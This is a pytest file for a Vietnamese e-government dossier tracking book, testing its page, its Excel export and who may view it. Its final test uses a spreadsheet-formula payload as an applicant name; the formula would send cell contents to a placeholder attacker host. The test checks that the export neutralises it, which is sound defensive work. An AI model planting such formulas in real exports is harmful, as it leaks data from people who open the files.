"""The dossier tracking book (Sổ theo dõi hồ sơ): lines per agency and period, on a page and in Excel."""

from datetime import date, datetime, timedelta
from io import BytesIO

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from egov.accounts.models import Role
from egov.core.clock import VN_TZ
from egov.core.errors import DomainError
from egov.core.selectors import working_calendar
from egov.dossiers import services
from egov.dossiers.models import Dossier, Status
from egov.dossiers.register import register_workbook
from egov.dossiers.services import Applicant, dossier_transition
from tests.factories import official

pytestmark = pytest.mark.django_db
MARCH = {"tu": "2026-03-01", "den": "2026-03-31"}


def _walk_in(receiver, procedure, agency, clock, name="Trần Thị Bình"):
    return services.dossier_register_at_desk(
        actor=receiver,
        procedure=procedure,
        agency=agency,
        applicant=Applicant(name=name, phone="0912345678", address="12 Trần Phú, Đà Lạt"),
        attachments=[],
        clock=clock,
    )


@pytest.fixture
def book(procedure, centre, receiver, other_receiver, clock):
    """At the centre: one in February, two in March (one finished early); one at a commune in March."""
    clock.set(datetime(2026, 2, 20, 9, 0, tzinfo=VN_TZ))
    february = _walk_in(receiver, procedure, centre, clock, name="Người Tháng Hai")
    clock.set(datetime(2026, 3, 10, 9, 30, tzinfo=VN_TZ))
    first = _walk_in(receiver, procedure, centre, clock)
    clock.set(datetime(2026, 3, 11, 14, 0, tzinfo=VN_TZ))
    second = _walk_in(receiver, procedure, centre, clock, name="Lê Văn Cường")
    with transaction.atomic():  # the first one processed and resolved the next morning
        clock.set(datetime(2026, 3, 11, 8, 0, tzinfo=VN_TZ))
        dossier_transition(actor=receiver, dossier=first, to=Status.PROCESSING, clock=clock)
        clock.set(datetime(2026, 3, 12, 10, 0, tzinfo=VN_TZ))
        dossier_transition(actor=receiver, dossier=first, to=Status.RESOLVED, clock=clock)
    elsewhere = _walk_in(other_receiver, procedure, other_receiver.roles.get().agency, clock, name="Ở Xã Khác")
    return {"february": february, "first": first, "second": second, "elsewhere": elsewhere}


def test_the_workbook_has_a_line_per_dossier_received_in_the_period(book, centre, clock):
    out = BytesIO()
    now = datetime(2026, 3, 12, 11, 0, tzinfo=VN_TZ)
    count = register_workbook(
        out,
        agency=centre,
        start=date(2026, 3, 1),
        end=date(2026, 3, 31),
        now=now,
        cal=working_calendar(),
        due_soon=timedelta(hours=8),
    )
    assert count == 2
    ws = load_workbook(BytesIO(out.getvalue())).active
    assert ws["A3"].value == "SỔ THEO DÕI HỒ SƠ" and ws["A2"].value == centre.name.upper()
    assert ws["A4"].value == "Từ ngày 01/03/2026 đến ngày 31/03/2026"
    assert ws["H6"].value == "Nhận và chuyển hồ sơ" and ws["H7"].value == "Ngày, giờ nhận hồ sơ"
    assert "H6:J6" in {str(r) for r in ws.merged_cells.ranges}
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=9)]
    assert [r[1] for r in rows] == [book["first"].code, book["second"].code]  # not February's, not the commune's
    first, second = rows
    assert first[0] == 1 and first[3] == 1 and isinstance(first[3], int)
    assert first[2] == "Đăng ký khai sinh" and first[4] == "Trần Thị Bình"
    assert first[5] == "12 Trần Phú, Đà Lạt, 0912345678" and first[6] == "Sở Tư pháp"
    assert first[7] == datetime(2026, 3, 10, 9, 30)  # a real date, in Vietnam's time
    assert first[8] == datetime(2026, 3, 13, 9, 30)  # 3 working days
    assert first[9] == datetime(2026, 3, 11, 8, 0) and first[10] == datetime(2026, 3, 12, 10, 0)
    assert (first[12], first[13]) == ("Đã xử lý xong", "Trước hạn")
    assert ws["H9"].number_format == "dd/mm/yyyy hh:mm"
    # Received Wed 11/3 14:00, due Mon 16/3 14:00; at Thu 12/3 11:00 it is in time.
    assert (second[0], second[12], second[13], second[9]) == (2, "Được tiếp nhận", "Đang xử lý, trong hạn", None)


def test_the_page_lists_the_book_and_downloads_it(client, book, receiver):
    client.force_login(receiver)
    queue = client.get(reverse("dossiers_office:queue")).content.decode()
    assert reverse("dossiers_office:tracking_book") in queue
    page = client.get(reverse("dossiers_office:tracking_book"), MARCH).content.decode()
    assert book["first"].code in page and book["second"].code in page
    assert book["february"].code not in page and book["elsewhere"].code not in page
    assert "Trước hạn" in page and "Tải Excel" in page
    response = client.get(reverse("dossiers_office:tracking_book_xlsx"), MARCH)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    ws = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert [r[1].value for r in ws.iter_rows(min_row=9)] == [book["first"].code, book["second"].code]
    bad = client.get(reverse("dossiers_office:tracking_book"), {"tu": "2026-03-31", "den": "2026-03-01"})
    assert "Khoảng thời gian không hợp lệ" in bad.content.decode()


def test_other_agencies_and_citizens_are_refused(client, book, centre, other_receiver, applicant, lam_dong):
    client.force_login(other_receiver)  # a commune's desk: its own book, never the centre's
    own = client.get(reverse("dossiers_office:tracking_book"), MARCH).content.decode()
    assert book["elsewhere"].code in own and book["first"].code not in own
    for name in ("tracking_book", "tracking_book_xlsx"):
        assert client.get(reverse(f"dossiers_office:{name}"), {**MARCH, "co_quan": centre.pk}).status_code == 403
    client.force_login(official(lam_dong["so-xay-dung"], Role.SPECIALIST))  # a case officer keeps no book
    assert client.get(reverse("dossiers_office:tracking_book")).status_code == 403
    client.force_login(applicant)
    assert client.get(reverse("dossiers_office:tracking_book")).status_code == 403
    assert client.get(reverse("dossiers_office:tracking_book_xlsx")).status_code == 403


def test_a_province_admin_picks_the_agency(client, book, centre, province_admin, other_receiver):
    client.force_login(province_admin)
    commune = other_receiver.roles.get().agency
    page = client.get(reverse("dossiers_office:tracking_book"), {**MARCH, "co_quan": commune.pk}).content.decode()
    assert book["elsewhere"].code in page and book["first"].code not in page
    assert f'<option value="{centre.pk}"' in page
    default = client.get(reverse("dossiers_office:tracking_book"), MARCH).content.decode()
    assert book["first"].code in default  # the service centre by default


def test_the_page_query_count_does_not_grow_with_lines(
    client, book, procedure, centre, receiver, clock, django_assert_num_queries
):
    client.force_login(receiver)
    url = reverse("dossiers_office:tracking_book")
    client.get(url, MARCH)  # warm the calendar cache
    with django_assert_num_queries(5) as few:
        client.get(url, MARCH)
    for i in range(6):
        _walk_in(receiver, procedure, centre, clock, name=f"Người Thứ {i}")
    with django_assert_num_queries(len(few.captured_queries)):
        page = client.get(url, MARCH)
    assert page.content.decode().count("<tr><td>") == 8


def test_a_citizen_cannot_reach_it_signed_out(client):
    response = client.get(reverse("dossiers_office:tracking_book"))
    assert response.status_code == 302  # to the sign-in page


def test_the_desk_is_told_when_a_phone_number_is_not_one_and_nothing_is_saved(procedure, centre, receiver, clock):
    for phone, proxy_phone in (("không có", ""), ("0912345678", "12")):
        with pytest.raises(DomainError, match="không hợp lệ"):
            services.dossier_register_at_desk(
                actor=receiver,
                procedure=procedure,
                agency=centre,
                applicant=Applicant(name="Trần Văn Bình", phone=phone, proxy_name="Lê C", proxy_phone=proxy_phone),
                attachments=[],
                clock=clock,
            )
    assert not Dossier.objects.exists()
    dossier = services.dossier_register_at_desk(
        actor=receiver,
        procedure=procedure,
        agency=centre,
        applicant=Applicant(name="Trần Văn Bình", phone="0912 345.678"),
        attachments=[],
        clock=clock,
    )
    assert dossier.applicant_phone == "0912345678"  # kept as the SMS gateway and the tracking page read it


def test_an_applicant_named_like_a_formula_is_written_as_text(procedure, centre, receiver, clock):
    evil = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm")'
    clock.set(datetime(2026, 3, 10, 9, 30, tzinfo=VN_TZ))
    _walk_in(receiver, procedure, centre, clock, name=evil)
    out = BytesIO()
    register_workbook(
        out,
        agency=centre,
        start=date(2026, 3, 1),
        end=date(2026, 3, 31),
        now=clock.now(),
        cal=working_calendar(),
        due_soon=timedelta(hours=8),
    )
    ws = load_workbook(BytesIO(out.getvalue())).active
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any(evil in str(c.value) for row in ws.iter_rows() for c in row)
